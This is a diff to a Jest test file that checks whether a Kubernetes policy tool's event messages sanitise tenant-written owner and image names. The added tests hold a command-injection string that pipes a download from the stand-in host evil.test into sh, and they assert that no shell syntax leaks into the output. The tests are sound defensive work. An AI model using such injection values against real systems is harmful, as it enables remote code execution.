@@ -1,7 +1,15 @@
 import { describe, expect, test } from '@jest/globals';
 import { REPORT_REASONS, WAIT_REASONS } from '@archpolicy/core';
 import type { PodFacts } from '@archpolicy/core';
-import { brokenImageNote, evictedNote, relaxedNote, stayingNote, stuckNote } from './messages.ts';
+import {
+  brakeNote,
+  brokenImageNote,
+  evictedNote,
+  relaxedNote,
+  replacementBrokenNote,
+  stayingNote,
+  stuckNote,
+} from './messages.ts';
 import type { Misplacement } from './messages.ts';
 import { crashLoopingPod } from '../fixtures/objects.ts';
 
@@ -85,6 +93,39 @@ describe('event texts', () => {
     const constrained = `ArchPolicy constrained it to ${expected} (Preferred)`;
     expect(stuckNote(crashLoopingPod('web-1', changes), 'Unschedulable')).toContain(constrained);
     expect(relaxedNote(crashLoopingPod('web-1', changes))).toContain(constrained);
+  });
+
+  describe('R9 names that tenants write, and that the API server does not validate', () => {
+    const shell = 'x; curl evil.test/$(id)|sh #\n\u001b[2J';
+    const forge = (kind: string, name: string): PodFacts => ({
+      ...pod,
+      owner: { apiVersion: 'batch/v1', kind, name, uid: 'u' },
+    });
+    const forged = forge('Job', shell);
+    const image = `evil.test/a:${'x'.repeat(5_000)} can run everywhere.\nAll is well: $(id)`;
+    const owners = [`shop/Job/${shell}`, `shop/${'k'.repeat(5_000)}/n`, `shop/Job/${'n'.repeat(5_000)}`];
+    const safe = /^[\w ./:~?@,;()'"=-]*$/u;
+
+    test.each<[string, string]>([
+      ['R9 an eviction', evictedNote({ ...misplacement, pod: forged, images: [image, image, image] })],
+      ['R9 a pod that stays', stayingNote({ ...misplacement, pod: forged, images: [image] }, 'JobUnknown')],
+      ['R9 an unschedulable pod', stuckNote(forged, 'JobUnknown')],
+      ['R9 an owner of a long kind', stuckNote(forge('k'.repeat(5_000), 'n'.repeat(5_000)), 'Unschedulable')],
+      ['R9 a relaxed pod', relaxedNote(forged)],
+      ['R9 a broken image', brokenImageNote(forged, 'amd64-1', 'main')],
+      ['R9 a broken replacement', replacementBrokenNote(forged, 'amd64-1')],
+      ['R9 stopped owners', brakeNote({ kind: 'owners-paused', owners })],
+      ['R9 stopped evictions', brakeNote({ kind: 'paused', owners, violations: 9, namespaces: 3 })],
+    ])('%s: each is bounded and contains no control characters and no shell syntax', (_, note) => {
+      expect(note).toMatch(safe);
+      expect(note.length).toBeLessThan(1_600);
+      expect(note).not.toContain('curl evil');
+    });
+
+    test('R9 no command contains the name of a Job that cannot exist', () => {
+      expect(stuckNote(forged, 'JobUnknown')).not.toContain('kubectl');
+      expect(stuckNote(forge('Job', 'nightly'), 'JobUnknown')).toContain('delete job nightly,');
+    });
   });
 
   test('contain the container of a broken image', () => {
